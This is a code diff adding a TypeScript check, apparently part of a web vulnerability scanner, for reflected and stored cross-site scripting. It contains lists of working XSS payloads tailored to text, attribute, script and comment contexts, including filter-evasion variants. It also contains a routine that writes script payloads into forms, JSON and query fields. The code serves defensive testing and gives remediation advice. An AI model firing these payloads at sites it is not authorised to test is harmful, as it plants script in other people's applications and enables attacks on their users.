@@ -1,0 +1,157 @@
+// Cross-site scripting: a value comes back in a page as a script that runs, at once or in what is read later.
+
+import { mediaTypeOf } from '../http.ts'
+import { type Place, placesOf, runsIn } from '../markup.ts'
+import { takesText, textValue } from '../probing.ts'
+import type { Context, Exchange, Operation, PassiveCheck, Point, PointCheck } from '../types.ts'
+
+type Mark = { call: string; operation: Operation; point: Point; exchange: Exchange | null }
+
+/** What was sent, by its number, to be known where it is read later. */
+const marks = new WeakMap<Context, Map<string, Mark>>()
+const MOST_MARKS = 100_000
+
+function markOf(operation: Operation, point: Point, context: Context): Mark {
+  const number = String(context.number(9))
+  const mark: Mark = { call: `alert(${number})`, operation, point, exchange: null }
+  const known = marks.get(context) ?? new Map<string, Mark>()
+  if (known.size < MOST_MARKS) known.set(number, mark)
+  marks.set(context, known)
+  return mark
+}
+
+/** Browsers read it as a page: HTML, or without a type and not told to believe it. */
+export const isPage = ({ answer, text }: Exchange): boolean => {
+  const type = mediaTypeOf(answer)
+  return ['text/html', 'application/xhtml+xml', 'image/svg+xml'].includes(type) || (type === '' && /<\w/.test(text))
+}
+
+const tags = (call: string) => [
+  `<svg onload=${call}>`,
+  `<img src=x onerror=${call}>`,
+  `<script>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<details open ontoggle=${call}>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+]
+
+/** Payloads for where the value stands, the likeliest first. */
+function payloadsFor(places: readonly Place[], call: string): string[] {
+  return [...new Set(places.slice(0, 6).flatMap((place) => payloadsAt(place, call)))].slice(0, 16)
+}
+
+function payloadsAt(place: Place, call: string): string[] {
+  switch (place.kind) {
+    case 'text':
+      return ['title', 'textarea', 'style', 'noscript', 'xmp', 'iframe', 'template', 'select', 'option'].includes(
+        place.parent,
+      )
+        ? [`</${place.parent}><svg onload=${call}>`, ...tags(call)]
+        : tags(call)
+    case 'attribute':
+      return [
+        ...(place.isUrl && place.isStart ? [`javascript:${call}`, `JaVaScRiPt:${call}//`] : []),
+        ...(place.isHandler ? [`';${call};//`, `");${call};//`, `');${call};//`, call] : []),
+        `"><svg onload=${call}>`,
+        `'><svg onload=${call}>`,
+        `" autofocus onfocus=${call} x="`,
+        `' autofocus onfocus=${call} x='`,
+        `x onfocus=${call} autofocus `,
+        `><svg onload=${call}>`,
+      ]
+    case 'script':
+      return [
+        `</script><svg onload=${call}>`,
+        `';${call};//`,
+        `";${call};//`,
+        `"-${call}-"`,
+        `'-${call}-'`,
+        `\\';${call};//`,
+        `\${${call}}`,
+        call,
+        `;${call};//`,
+        `*/${call}/*`,
+      ]
+    case 'comment':
+      return [`--><svg onload=${call}>`]
+    case 'name':
+      return [` onload=${call} `, `><svg onload=${call}>`]
+  }
+}
+
+export const reflectedScript: PointCheck = {
+  kind: 'point',
+  id: 'cross-site-scripting',
+  title: 'Cross-site scripting',
+  cwes: [79],
+  severity: 'HIGH',
+  solution:
+    'Escape values for the place where they stand in the page (text, attribute, script, address); let a template do it.',
+  profile: 'BALANCED',
+  accepts: takesText,
+  async probe(point, operation, context) {
+    const word = context.word()
+    const looked = await context.attempt(operation, [{ point, value: word }])
+    if (!looked) return null
+    const isAnyPage = isPage(looked)
+    if (!isAnyPage || !looked.text.includes(word)) {
+      // what is stored shows later, where it is read
+      if (operation.kind !== 'read' || operation.body) await store(point, operation, context)
+      return null
+    }
+    for (const made of payloadsFor(placesOf(looked.text, word), 'CALL')) {
+      const mark = markOf(operation, point, context)
+      const exchange = await context.attempt(operation, [{ point, value: made.replaceAll('CALL', mark.call) }])
+      mark.exchange = exchange
+      const proof = exchange && isPage(exchange) && runsIn(exchange.text, mark.call)
+      if (exchange && proof)
+        return { detail: 'A script in the value runs in the page that comes back.', proof: [proof], exchange }
+    }
+    if (operation.kind !== 'read') await store(point, operation, context)
+    return null
+  },
+}
+
+/** Leaves a script in what the operation keeps, behind the normal value where that has a form. */
+async function store(point: Point, operation: Operation, context: Context): Promise<void> {
+  if (
+    !['form', 'multipart', 'json', 'xml', 'variable', 'query'].includes(point.place) ||
+    typeof point.value !== 'string'
+  )
+    return
+  const mark = markOf(operation, point, context)
+  const isMail = /@/.test(point.value)
+  const script = `"'><svg onload=${mark.call}>`
+  mark.exchange = await context.attempt(operation, [
+    { point, value: isMail ? `"${script}"@example.com` : `${textValue(point).slice(0, 20)}${script}` },
+  ])
+}
+
+export const storedScript: PassiveCheck = {
+  kind: 'passive',
+  id: 'stored-cross-site-scripting',
+  title: 'Stored cross-site scripting',
+  cwes: [79],
+  severity: 'HIGH',
+  solution:
+    'Escape stored values for the place where they stand in the page (text, attribute, script, address); let a template do it.',
+  profile: 'BALANCED',
+  *look(exchange, context) {
+    const known = marks.get(context)
+    if (!known || !isPage(exchange)) return
+    const sent = `${exchange.request.url} ${exchange.request.body?.toString() ?? ''}`
+    for (const number of new Set(exchange.text.match(/(?<=alert\()\d{9}(?=\))/g) ?? [])) {
+      const mark = known.get(number)
+      if (!mark || sent.includes(number)) continue
+      const proof = runsIn(exchange.text, mark.call)
+      if (!proof) continue
+      yield {
+        detail: `A script that was sent to ${mark.operation.key} runs in the page of ${exchange.operation || exchange.request.url}.`,
+        proof: [proof],
+        exchange,
+        operation: mark.operation,
+        point: mark.point,
+      }
+    }
+  },
+}
